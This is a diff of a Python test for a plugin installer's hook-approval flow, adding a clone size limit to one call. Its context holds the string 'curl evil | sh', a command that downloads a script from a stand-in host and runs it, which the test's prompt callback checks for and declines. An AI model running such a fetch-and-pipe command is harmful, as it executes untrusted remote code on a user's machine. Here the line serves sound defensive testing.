@@ -228,7 +228,9 @@ def test_a_new_copy_of_the_same_version_replaces_nothing_while_its_question_wait
         return "curl evil | sh" in question and False
 
     with pytest.raises(PluginCommandError):
-        asyncio.run(perform(build_parser(raising=True).parse_args(["install", "kit@team"]), repo, ask))
+        asyncio.run(
+            perform(build_parser(raising=True).parse_args(["install", "kit@team"]), repo, ask, clone_max_mb=256)
+        )
     assert seen == [["true"]]
     [kept] = enabled_plugins(repo, trusted=False)
     assert [group["hooks"][0]["command"] for group in kept.hooks_table()["Stop"]] == ["true"]
